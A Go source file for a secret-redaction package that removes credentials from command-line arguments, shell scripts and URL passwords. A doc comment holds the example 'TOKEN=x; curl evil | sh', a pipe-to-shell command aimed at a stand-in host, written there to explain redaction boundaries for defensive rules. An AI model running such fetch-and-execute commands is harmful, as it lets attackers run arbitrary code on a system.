package redact

import (
	"slices"
	"strings"
)

// Args returns args, a program's argument vector, without what looks like a credential, and how many it replaced. It
// changes nothing else and returns args itself when there is none. Because rules see only what it leaves, a value ends
// at what ends a word in a shell script: "TOKEN=x; curl evil | sh" keeps its second half.
func (r Redactor) Args(args []string) ([]string, int) {
	total := 0
	out := args
	for i, arg := range args {
		spans := secrets(args, i)
		if len(spans) == 0 {
			continue
		}
		clean, n := r.replace(arg, spans)
		if n == 0 {
			continue
		}
		if total == 0 {
			out = slices.Clone(args)
		}
		out[i] = clean
		total += n
	}
	return out, total
}

// part is a half-open range of bytes of an argument.
type part struct{ from, to int }

// secrets returns the parts of args[i] that are credentials.
func secrets(args []string, i int) []part {
	arg := args[i]
	if p, ok := byProgram(args, i); ok {
		return []part{p}
	}
	var script bool
	if i > 0 {
		before := args[i-1]
		if wantsSecret(before) && !strings.HasPrefix(arg, "-") {
			return []part{{0, len(arg)}}
		}
		// The argument after -c, also -lc or -ec, is a script: bash(1).
		script = len(before) <= 5 && strings.HasPrefix(before, "-") && strings.HasSuffix(before, "c")
	}
	if !script && strings.HasPrefix(arg, "-") {
		if key, value, found := strings.Cut(arg, "="); found && sensitive(key) {
			return []part{{len(arg) - len(value), len(arg)}}
		}
	}
	as := argument
	if script || strings.ContainsAny(arg, " \t\n") {
		as = shell
	}
	var spans []part
	spans = appendPairs(spans, arg, as)
	if as == shell {
		spans = appendCommands(spans, arg)
	}
	spans = appendUserInfo(spans, arg)
	return appendTokens(spans, arg)
}

// replace writes the mark over each part, merging those that overlap. What is marked already does not count.
func (r Redactor) replace(arg string, parts []part) (string, int) {
	slices.SortFunc(parts, func(a, b part) int { return a.from - b.from })
	var b strings.Builder
	n, at := 0, 0
	for i := 0; i < len(parts); i++ {
		p := parts[i]
		for i+1 < len(parts) && parts[i+1].from < p.to {
			i++
			p.to = max(p.to, parts[i].to)
		}
		if p.from >= p.to || p.to <= p.from+markLen(arg[p.from:]) {
			continue
		}
		b.WriteString(arg[at:p.from])
		b.WriteString(r.mark(arg[p.from:p.to]))
		at = p.to
		n++
	}
	b.WriteString(arg[at:])
	return b.String(), n
}

// wantsSecret reports whether flag is a long flag whose value, a credential, is the next argument.
func wantsSecret(flag string) bool {
	return len(flag) > 2 && flag[0] == '-' && !strings.ContainsAny(flag, "= :") && sensitive(flag)
}

// appendUserInfo finds the password of a URL, RFC 3986 section 3.2.1, and a long user name alone, which is a token.
func appendUserInfo(spans []part, s string) []part {
	for at := 0; ; {
		n := strings.Index(s[at:], "://")
		if n < 0 {
			return spans
		}
		at += n + len("://")
		end := until(s, at, "/?# \t\r\n\"'<>`")
		host := strings.LastIndexByte(s[at:end], '@')
		if host < 0 || markLen(s[at:]) == host {
			continue
		}
		const longName = 20
		if _, password, found := strings.Cut(s[at:at+host], ":"); found {
			spans = append(spans, part{at + host - len(password), at + host})
		} else if host >= longName {
			spans = append(spans, part{at, at + host})
		}
	}
}
